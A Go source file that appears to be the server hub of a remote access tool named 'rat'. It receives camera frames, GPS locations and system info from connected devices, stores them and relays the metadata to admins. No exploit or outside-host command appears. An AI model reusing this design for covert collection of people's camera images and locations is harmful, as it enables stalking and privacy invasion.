package hub

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"time"

	"github.com/Sp1ker2/rat/internal/model"
	"go.uber.org/zap"
)

// HandleDeviceMessage routes one inbound device message by its declared
// type. Every failure is contained to this message: malformed envelopes,
// unknown types and persistence errors are logged and dropped without
// touching the connection.
func (h *Hub) HandleDeviceMessage(ctx context.Context, id string, data []byte) {
	env, err := model.DecodeEnvelope(data)
	if err != nil {
		h.log.Warn("undecodable device message",
			zap.String("device_id", id),
			zap.Int("raw_size", len(data)),
			zap.Error(err))
		return
	}

	switch env.Type {
	case model.KindCameraFrame:
		h.handleCameraFrame(ctx, id, env.Raw)
	case model.KindLocation:
		h.handleLocation(ctx, id, env.Raw)
	case model.KindSystemInfo:
		h.handleSystemInfo(ctx, id, env.Raw)
	case model.KindPing:
		h.handlePing(id)
	case model.KindRegister:
		// Registration is a handshake concern; mid-stream repeats are
		// treated like any other unexpected type.
		fallthrough
	default:
		h.log.Warn("unknown device message type",
			zap.String("device_id", id),
			zap.String("type", string(env.Type)))
	}
}

func (h *Hub) handleCameraFrame(ctx context.Context, id string, raw json.RawMessage) {
	var msg model.CameraFrameMessage
	if err := json.Unmarshal(raw, &msg); err != nil {
		h.log.Warn("malformed camera_frame", zap.String("device_id", id), zap.Error(err))
		return
	}

	frame, err := base64.StdEncoding.DecodeString(msg.Data)
	if err != nil {
		h.log.Warn("camera_frame base64 decode failed",
			zap.String("device_id", id),
			zap.Int("data_len", len(msg.Data)),
			zap.Error(err))
		return
	}
	if h.maxFrameSize > 0 && int64(len(frame)) > h.maxFrameSize {
		h.log.Warn("camera_frame exceeds size limit",
			zap.String("device_id", id),
			zap.Int("size", len(frame)))
		return
	}

	if _, err := h.store.SaveCameraFrame(ctx, id, msg.Camera, frame, msg.Width, msg.Height, msg.Timestamp); err != nil {
		h.log.Error("save camera frame failed", zap.String("device_id", id), zap.Error(err))
		return
	}

	h.registry.UpdateTelemetry(id, model.TelemetryUpdate{CurrentCamera: msg.Camera})
	h.touchConn(id)

	// Admins get metadata only, never the image bytes.
	h.BroadcastToAdmins(map[string]any{
		"type":      "camera_frame",
		"device_id": id,
		"camera":    msg.Camera,
		"timestamp": msg.Timestamp,
		"width":     msg.Width,
		"height":    msg.Height,
	}, nil)
}

func (h *Hub) handleLocation(ctx context.Context, id string, raw json.RawMessage) {
	var msg model.LocationMessage
	if err := json.Unmarshal(raw, &msg); err != nil {
		h.log.Warn("malformed location_update", zap.String("device_id", id), zap.Error(err))
		return
	}
	if !msg.ValidCoordinates() {
		h.log.Warn("location_update out of range",
			zap.String("device_id", id),
			zap.Float64("lat", msg.Lat),
			zap.Float64("lon", msg.Lon))
		return
	}

	if _, err := h.store.SaveLocation(ctx, id, msg.Lat, msg.Lon, msg.Accuracy, msg.Timestamp); err != nil {
		h.log.Error("save location failed", zap.String("device_id", id), zap.Error(err))
		return
	}

	loc := map[string]any{
		"lat":       msg.Lat,
		"lon":       msg.Lon,
		"timestamp": msg.Timestamp,
	}
	if msg.Accuracy != nil {
		loc["accuracy"] = *msg.Accuracy
	}
	h.registry.UpdateTelemetry(id, model.TelemetryUpdate{Location: loc})
	h.touchConn(id)

	h.BroadcastToAdmins(map[string]any{
		"type":      "location_update",
		"device_id": id,
		"location":  loc,
	}, nil)
}

func (h *Hub) handleSystemInfo(ctx context.Context, id string, raw json.RawMessage) {
	var msg model.SystemInfoMessage
	if err := json.Unmarshal(raw, &msg); err != nil {
		h.log.Warn("malformed system_info", zap.String("device_id", id), zap.Error(err))
		return
	}

	upd := model.TelemetryUpdate{}
	if lvl, ok := msg.Data["battery_level"].(float64); ok {
		battery := int(lvl)
		upd.BatteryLevel = &battery
	}
	h.registry.UpdateTelemetry(id, upd)
	h.touchConn(id)

	if _, err := h.store.LogDeviceEvent(ctx, id, "system_info", msg.Data, 0); err != nil {
		h.log.Error("save system_info failed", zap.String("device_id", id), zap.Error(err))
		return
	}

	h.BroadcastToAdmins(map[string]any{
		"type":      "device_update",
		"device_id": id,
		"data":      msg.Data,
	}, nil)
}

// handlePing refreshes liveness only; no persistence, no broadcast.
func (h *Hub) handlePing(id string) {
	h.registry.Touch(id)
	h.touchConn(id)
}

func (h *Hub) touchConn(id string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if dc, ok := h.devices[id]; ok {
		dc.lastSeen = time.Now().UTC()
	}
}
